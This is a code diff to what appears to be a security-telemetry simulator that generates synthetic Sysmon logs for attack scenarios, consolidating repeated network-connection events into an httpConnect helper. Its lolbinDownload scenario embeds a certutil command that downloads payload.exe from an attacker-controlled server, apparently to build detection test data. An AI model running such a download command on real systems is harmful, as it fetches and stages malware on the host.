@@ -113,14 +113,7 @@ function encodedPowershell(world: World, host: Host, user: User, r: Random): Ste
       return world.processCreate(host, ps, ms);
     },
     (ms) => scriptBlock(world, host, ps!, user, script, 3, ms),
-    (ms) => {
-      const p = ps!;
-      return world.sysmon(host, 3, {
-        ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, User: p.user, Protocol: 'tcp', Initiated: 'true',
-        SourceIsIpv6: 'false', SourceIp: host.ip, SourceHostname: host.fqdn, SourcePort: String(r.int(49152, 65535)),
-        DestinationIsIpv6: 'false', DestinationIp: c2, DestinationPort: '80', DestinationPortName: 'http',
-      }, ms);
-    },
+    (ms) => httpConnect(world, host, ps!, c2, ms),
   ];
 }
 
@@ -207,14 +200,7 @@ function lolbinDownload(world: World, host: Host, user: User, r: Random): Step[]
         : world.newProc(host, IMAGES.certutil, `certutil.exe -urlcache -split -f http://${server}/payload.exe ${file}`, sh, user, false, 'High', ms);
       return world.processCreate(host, tool, ms);
     },
-    (ms) => {
-      const t = tool!;
-      return world.sysmon(host, 3, {
-        ProcessGuid: t.guid, ProcessId: String(t.pid), Image: t.image.path, User: t.user, Protocol: 'tcp', Initiated: 'true',
-        SourceIsIpv6: 'false', SourceIp: host.ip, SourceHostname: host.fqdn, SourcePort: String(r.int(49152, 65535)),
-        DestinationIsIpv6: 'false', DestinationIp: server, DestinationPort: '80', DestinationPortName: 'http',
-      }, ms);
-    },
+    (ms) => httpConnect(world, host, tool!, server, ms),
     (ms) => fileCreate(world, host, tool!, file, ms),
   ];
 }
@@ -223,6 +209,15 @@ function lolbinDownload(world: World, host: Host, user: User, r: Random): Step[]
 export function fileCreate(world: World, host: Host, p: Proc, target: string, ms: number): WinlogbeatDoc {
   return world.sysmon(host, 11, {
     ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, TargetFilename: target, CreationUtcTime: sysmonTime(ms), User: p.user,
+  }, ms);
+}
+
+/** Sysmon 3: a process fetches over plain HTTP from `server` (a payload or C2 address). */
+function httpConnect(world: World, host: Host, p: Proc, server: string, ms: number): WinlogbeatDoc {
+  return world.sysmon(host, 3, {
+    ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, User: p.user, Protocol: 'tcp', Initiated: 'true',
+    SourceIsIpv6: 'false', SourceIp: host.ip, SourceHostname: host.fqdn, SourcePort: String(world.random.int(49152, 65535)),
+    DestinationIsIpv6: 'false', DestinationIp: server, DestinationPort: '80', DestinationPortName: 'http',
   }, ms);
 }
 
